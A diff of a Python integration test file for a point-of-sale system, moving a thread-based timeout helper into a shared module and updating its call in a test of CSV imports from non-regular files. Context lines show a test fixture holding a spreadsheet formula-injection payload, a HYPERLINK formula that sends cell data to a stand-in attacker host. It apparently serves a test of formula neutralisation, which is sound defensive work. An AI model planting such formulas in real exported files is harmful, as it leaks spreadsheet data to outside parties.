@@ -5,7 +5,6 @@ from __future__ import annotations
 
 import csv
 import os
-import threading
 import uuid
 from datetime import date
 from decimal import Decimal
@@ -18,26 +17,7 @@ from pos.errors import ErrorCode, PosError
 from pos.models import Product, StockMovement
 from pos.services.catalog.reorder import write_reorder_csv
 from pos.services.store.reports import ProductSales, SalesReport, Turnover, write_report_csv
-
-
-def _within_seconds(seconds, fn, *args):
-    """fn(*args) on a helper thread; a hang fails the test instead of freezing it."""
-    box: dict[str, object] = {}
-
-    def run():
-        try:
-            box["value"] = fn(*args)
-        except BaseException as exc:  # noqa: BLE001 - handed back to the test thread
-            box["error"] = exc
-
-    thread = threading.Thread(target=run, daemon=True)
-    thread.start()
-    thread.join(seconds)
-    assert not thread.is_alive(), f"still running after {seconds} s"
-    if "error" in box:
-        raise box["error"]  # type: ignore[misc]
-    return box.get("value")
-
+from tests.integration.helpers import within_seconds
 
 FORMULAS = {
     "name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
@@ -250,7 +230,7 @@ def test_the_csv_file_itself_must_be_a_regular_file(store, manager, tmp_path):
     for path in (fifo, tmp_path):
         before = _counts(store)
         with pytest.raises(PosError) as info:
-            _within_seconds(5, store.product_io.import_csv, manager, path)
+            within_seconds(5, store.product_io.import_csv, manager, path)
         assert info.value.code == ErrorCode.VALIDATION_ERROR
         assert "not a regular file" in info.value.message
         assert _counts(store) == before
